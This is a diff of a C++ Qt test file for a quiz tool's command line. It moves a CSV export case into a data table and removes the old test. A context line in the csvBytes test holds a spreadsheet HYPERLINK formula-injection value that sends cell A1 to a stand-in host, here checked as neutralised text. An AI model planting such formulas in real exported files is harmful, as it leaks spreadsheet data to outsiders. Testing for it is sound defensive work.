@@ -52,7 +52,6 @@ private slots:
     void makeClassFolder_data();
     void makeClassFolder();
     void csvBytes();
-    void csvOfDefaultAndRelativeJournal();
     void csvCells_data();
     void csvCells();
     void refusedOutputs_data();
@@ -90,6 +89,8 @@ void CommandLineTest::decides_data()
     QTest::addRow("results: paths as given") << QStringList{"--results", "a", "b/1.txt"} << Mode::Results << home
                                              << QStringList{"a", "b/1.txt"};
     QTest::addRow("csv") << QStringList{"--csv", "o.csv", "--results", "a"} << Mode::Export << QString() << QStringList{"a"};
+    QTest::addRow("csv of this computer's and the --journal one") << QStringList{"--journal", "клас/1.txt", "--results", "--csv", "o.csv"}
+                                                                  << Mode::Export << QString() << QStringList{home, relative};
     QTest::addRow("pdf") << QStringList{"--results", "--pdf", "o.pdf", "a"} << Mode::Export << QString() << QStringList{"a"};
     QTest::addRow("lists and a rule, window") << QStringList{"--results", "--class-list", "9-А.txt", "--attempt", "best"} << Mode::Results
                                               << home << QStringList{home};
@@ -236,21 +237,6 @@ void CommandLineTest::csvBytes()
         ";\"'=HYPERLINK(\"\"http://x/?\"\"&A1;\"\"Іван\"\")\";'+1;07.12.26;9;" + a.toUtf8() + ";4;;;\r\n";
     QCOMPARE(readAll(out), expected);
     QCOMPARE(ran.err, b.toUtf8() + ":2: незавершений рядок: немає кінця рядка\n" + a.toUtf8() + ":2: порожній рядок\n");
-}
-
-// Catches --journal left relative to some other folder, and the view's default sources.
-void CommandLineTest::csvOfDefaultAndRelativeJournal()
-{
-    QTemporaryDir home;
-    QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
-    env.insert(QStringLiteral("HOME"), home.path());
-    QVERIFY(write(journal::fileUnder(home.path()), journal::record("Домашній", "9", "07.12.26", "5")));
-    QVERIFY(write(dir.filePath(QStringLiteral("спільна/1.txt")), journal::record("Спільний", "9", "07.12.26", "7")));
-    const Ran ran = netquiz({"--journal", "спільна/1.txt", "--results", "--csv", "both.csv"}, dir.path(), env);
-    QCOMPARE(ran.code, 0);
-    const QString csv = QString::fromUtf8(readAll(dir.filePath(QStringLiteral("both.csv"))));
-    QVERIFY2(csv.contains(QStringLiteral(";Домашній;")), qPrintable(csv));
-    QVERIFY2(csv.contains(QStringLiteral(";Спільний;9;07.12.26;7;%1;1").arg(dir.filePath(QStringLiteral("спільна/1.txt")))), qPrintable(csv));
 }
 
 // A cell a spreadsheet would run as a formula is written as text. Catches a name such as
